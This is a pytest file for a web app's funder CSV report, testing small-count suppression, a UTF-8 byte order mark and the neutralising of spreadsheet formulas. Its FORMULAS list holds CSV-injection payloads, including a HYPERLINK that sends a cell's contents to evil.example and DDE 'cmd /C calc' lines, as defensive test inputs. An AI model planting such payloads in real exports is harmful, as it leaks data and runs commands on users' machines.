"""The report as CSV for funders, downloaded from /staff/reports.

Issue 13: the same suppression as the page; cells that begin with "=", "+", "-", "@", a
tab or a carriage return neutralised (a leading "'": OWASP "CSV Injection"); dates ISO
8601; a header row that says what each column counts. Read back with Python's csv module.
The file is UTF-8 with a byte order mark (EF BB BF), or Excel reads "é" as "Ã©" (issue 13,
newcomer's try).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from advocacy.extensions import db
from advocacy.reports.counting import count
from advocacy.reports.export import neutralised
from advocacy.reports.models import Measure
from tests.support.programs import make_program

IN_NOVEMBER = datetime(2026, 11, 10, 15, 0, tzinfo=UTC)
MEASURE_COLUMNS = [
    "Requests for a place",
    "Places given",
    "Requests put on the waiting list",
    "Requests declined",
    "Withdrawals",
    "Completions",
    "Meetings held",
    "Attendances",
    "RSVPs",
    "Accounts joined",
    "Stories sent for review",
    "Stories published",
    "Reports of stories",
    "Reports decided: story kept up",
    "Reports decided: story taken down",
]
# What "fewer than 5" and "not shown" mean, said once: the last column's header (its cells
# are empty), never in each count column's (issue 13, a newcomer's try).
NOTE = (
    "Note: in the count columns, 1 to 4 shows as “fewer than 5”; “not shown” is 0 or 5 or"
    " more, held back so that a small count in this month or an earlier one cannot be worked"
    " out; a total adds up only the counts shown, “at least” when one is not shown"
)
HEADER = [
    "Period starts (ISO 8601 date)",
    "Period ends (ISO 8601 date, included)",
    "Row (a month, or the total of the months shown)",
    "Program number (empty: the whole site)",
    "Program, or the whole site",
    *(f"{name} (count)" for name in MEASURE_COLUMNS),
    NOTE,
]
PROGRAM_CELLS = 8  # the first eight measures are a program's; the rest the site's
# Program titles are staff-written: each leading character a spreadsheet acts on.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


BOM = b"\xef\xbb\xbf"


def read(data: bytes) -> list[list[str]]:
    """Read a CSV file back as a spreadsheet does: UTF-8 after its byte order mark."""
    assert data[:3] == BOM
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def counted(app, *counts: tuple[Measure, int | None, int]) -> None:
    with app.app_context():
        for measure, program_id, by in counts:
            count(measure, program_id=program_id, now=IN_NOVEMBER, by=by)
        db.session.commit()


def download(app, auth, account, query: str) -> bytes:
    client = app.test_client()
    auth.login(account, client=client)
    response = client.get(f"/staff/reports.csv?{query}")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    return response.get_data()


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(lead):
    assert neutralised(f"{lead}1+1") == f"'{lead}1+1"


@pytest.mark.parametrize("text", ["Healing together", "12", "fewer than 5", "'=1", " =1", ""])
def test_other_cells_are_left_as_they_are(text):
    assert neutralised(text) == text


def test_the_csv_reads_back_with_its_header_dates_and_hidden_numbers(app, auth, clock, admin):
    program = make_program(app, admin.id, now=clock(), title="Healing, together", meetings=0).id
    counted(
        app,
        (Measure.REQUESTED, program, 7),
        (Measure.PLACE_GIVEN, program, 3),
        (Measure.NEW_MEMBER, None, 12),
        (Measure.STORY_SUBMITTED, None, 2),
    )
    data = download(app, auth, admin, "from_month=2026-10&to_month=2026-11")
    rows = read(data)
    assert rows[0] == HEADER
    assert all(len(row) == len(HEADER) for row in rows)
    # Said once in the file, and nothing under it.
    assert data.decode("utf-8-sig").count("fewer than 5”") == 1
    assert data.decode("utf-8-sig").count("cannot be worked out") == 1
    assert [row[-1] for row in rows[1:]] == [""] * 6
    rows = [row[:-1] for row in rows]
    blank_site, places = [""] * (15 - PROGRAM_CELLS), [""] * 6
    zeros = ["0"] * PROGRAM_CELLS
    p = str(program)
    assert (
        rows[1:]
        == [
            ["2026-10-01", "2026-10-31", "month", p, "Healing, together", *zeros, *blank_site],
            [
                "2026-11-01",
                "2026-11-30",
                "month",
                p,
                "Healing, together",
                "7",
                "fewer than 5",
                # Never one small count alone among the tied ones: the smallest shown beside
                # it, the waits' 0, is withheld.
                "not shown",
                *zeros[3:],
                *blank_site,
            ],
            [
                "2026-10-01",
                "2026-11-30",
                "total",
                p,
                "Healing, together",
                "7",
                "fewer than 5",  # one small count (November's), October's 0: the count itself
                "not shown",
                *zeros[3:],
                *blank_site,
            ],
            # The whole site: the six measures of places do not apply; its own follow.
            ["2026-10-01", "2026-10-31", "month", "", "The whole site", *places, *["0"] * 9],
            [
                "2026-11-01",
                "2026-11-30",
                "month",
                "",
                "The whole site",
                *places,
                *["0", "0", "0"],  # meetings held, attendances, RSVPs
                *["12", "fewer than 5", "0"],  # joined, stories sent for review, published
                *["0", "0", "0"],  # reports, kept up, taken down
            ],
            [
                "2026-10-01",
                "2026-11-30",
                "total",
                "",
                "The whole site",
                *places,
                *["0", "0", "0"],
                *["12", "fewer than 5", "0"],
                *["0", "0", "0"],
            ],
        ]
    )
    assert not any(cell == "3" for row in rows for cell in row)
    assert not any("at least 0" in cell for row in rows for cell in row)


def test_the_csv_withholds_a_count_that_would_give_a_small_one_away(app, auth, clock, admin):
    # 12 asked, 9 got a place, 3 waited: 12 - 9 would tell the 3.
    program = make_program(app, admin.id, now=clock(), title="Healing", meetings=0).id
    counted(
        app,
        (Measure.REQUESTED, program, 12),
        (Measure.PLACE_GIVEN, program, 9),
        (Measure.WAITLISTED, program, 3),
        (Measure.REPORT_FILED, None, 6),
        (Measure.REPORT_KEPT, None, 1),
        (Measure.REPORT_REMOVED, None, 5),
    )
    rows = read(download(app, auth, admin, "from_month=2026-11&to_month=2026-11"))
    november = [row for row in rows if row[2] == "month"]
    assert november[0][5:11] == ["12", "not shown", "fewer than 5", "0", "0", "0"]
    # 6 reports, 1 kept up, 5 taken down: withholding the 5 would leave 5 + 1 as the only
    # way to 6, so the 6 is withheld.
    assert november[1][-4:-1] == ["not shown", "fewer than 5", "5"]
    totals = [row for row in rows if row[2] == "total"]
    # One month: each total is its one count, and says what the month says.
    assert totals[0][5:8] == ["12", "not shown", "fewer than 5"]
    assert totals[1][-4:-1] == ["not shown", "fewer than 5", "5"]
    assert not any(cell in ("9", "3", "1", "6") for row in rows[1:] for cell in row[5:])


def test_every_formula_in_a_program_title_is_neutralised(app, auth, clock, admin):
    programs = [
        make_program(app, admin.id, now=clock(), title=title, meetings=0).id for title in FORMULAS
    ]
    counted(app, *((Measure.REQUESTED, program, 6) for program in programs))
    rows = read(download(app, auth, admin, "from_month=2026-11&to_month=2026-11"))
    titles = {row[3]: row[4] for row in rows[1:] if row[3]}
    assert titles == {str(p): f"'{title}" for p, title in zip(programs, FORMULAS, strict=True)}
    # Nothing else in the file starts a formula.
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_csv_starts_with_a_byte_order_mark_so_accents_survive_a_spreadsheet(
    app, auth, clock, admin
):
    title = "Café de l’espoir: señoras juntas"
    program = make_program(app, admin.id, now=clock(), title=title, meetings=0).id
    counted(app, (Measure.REQUESTED, program, 6))
    data = download(app, auth, admin, "from_month=2026-11&to_month=2026-11")
    assert data.startswith(b"\xef\xbb\xbfPeriod starts (ISO 8601 date),")
    assert not data.startswith(b"Period")  # no file without the mark
    assert data.count(b"\xef\xbb\xbf") == 1
    assert "Café de l’espoir: señoras juntas".encode() in data
    rows = read(data)
    assert rows[0][0] == "Period starts (ISO 8601 date)"
    assert [row[4] for row in rows[1:] if row[3] == str(program)] == [title, title]
